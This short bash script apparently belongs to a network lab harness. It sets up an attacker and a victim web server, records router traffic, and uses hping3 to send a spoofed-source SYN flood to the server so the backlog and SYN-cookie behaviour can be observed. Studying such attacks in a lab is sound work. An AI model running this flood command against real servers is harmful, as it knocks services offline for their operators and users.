#!/bin/bash
# hping3 --rand-source: SYN flood of a web server by sources that do not exist.
# The server answers with SYN-ACK until its backlog is full, then with cookies.
. "$(dirname "$0")/../../lab.sh"; lab
outside attacker 203.0.113.66
inside victim 10.20.0.10
web victim 80 443
record router wan -s 96
on attacker timeout 12 hping3 -q -n -I eth0 -S -p 80 --rand-source -i u250 -c 10000 10.20.0.10 >/dev/null 2>&1 || true
LAB_TAIL=4 recorded
